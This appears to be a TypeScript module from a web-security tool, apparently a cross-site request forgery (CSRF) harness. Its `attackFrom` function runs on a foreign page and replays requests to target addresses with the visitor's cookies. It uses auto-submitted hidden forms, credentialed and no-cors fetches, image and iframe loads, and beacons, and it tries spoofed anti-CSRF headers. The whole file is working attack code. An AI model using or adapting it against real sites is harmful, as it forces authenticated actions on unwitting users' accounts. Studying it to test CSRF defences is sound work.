/** What a foreign page sends to one address. */
export interface Shot {
  method: string;
  url: string;
  /** What the address takes. */
  fields: Record<string, string | string[]>;
}

/**
 * Runs in a browser, on a foreign page: sends each shot in every way in which a page can, with the cookies of whoever looks at it.
 * @param isWhole whether also those ways that need no other spelling of an address
 */
export async function attackFrom({ shots, isWhole }: { shots: Shot[]; isWhole: boolean }): Promise<number> {
  // Within the function: nothing from outside it goes along into the browser.
  const patienceMs = 3000;
  let sent = 0;
  const settled = async (work: Promise<unknown>): Promise<void> => {
    sent += 1;
    await Promise.race([work.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, patienceMs))]);
  };

  function byFrame(begin: (frame: HTMLIFrameElement) => void): Promise<void> {
    return new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `frame-${Math.random()}`;
      document.body.append(frame);
      // The first one is of the empty frame.
      frame.addEventListener('load', () => {
        frame.remove();
        resolve();
      });
      begin(frame);
    });
  }

  function byForm({ url, fields }: Shot, enctype: string): Promise<void> {
    return byFrame((frame) => {
      const form = document.createElement('form');
      Object.assign(form, { method: 'post', action: url, target: frame.name, enctype });
      for (const [name, values] of Object.entries(fields))
        for (const value of [values].flat()) {
          const input = document.createElement('input');
          Object.assign(input, { type: 'hidden', name, value });
          form.append(input);
        }
      document.body.append(form);
      form.submit();
      form.remove();
    });
  }

  function byImage({ url, fields }: Shot): Promise<void> {
    return new Promise((resolve) => {
      const image = new Image();
      for (const end of ['load', 'error']) image.addEventListener(end, () => resolve());
      image.src = `${url}?${new URLSearchParams(Object.entries(fields).map(([name, value]) => [name, String(value)]))}`;
    });
  }

  async function fire(shot: Shot): Promise<void> {
    const { method, url, fields } = shot;
    const body = JSON.stringify(fields);
    await settled(byForm(shot, 'application/x-www-form-urlencoded'));
    await settled(byForm(shot, 'text/plain'));
    await settled(fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body }));
    if (!isWhole) return;
    const headers = { 'content-type': 'application/json', 'x-csrf-protection': '1', 'sec-fetch-site': 'same-origin' };
    await settled(fetch(url, { method, credentials: 'include', headers, body }));
    await settled(byImage(shot));
    await settled(byFrame((frame) => (frame.src = url)));
    navigator.sendBeacon(url, new URLSearchParams({ beacon: '1' }));
  }

  const waiting = [...shots];
  const lane = async (): Promise<void> => {
    for (let shot = waiting.shift(); shot; shot = waiting.shift()) await fire(shot);
  };
  await Promise.all(Array.from({ length: 8 }, lane));
  return sent;
}
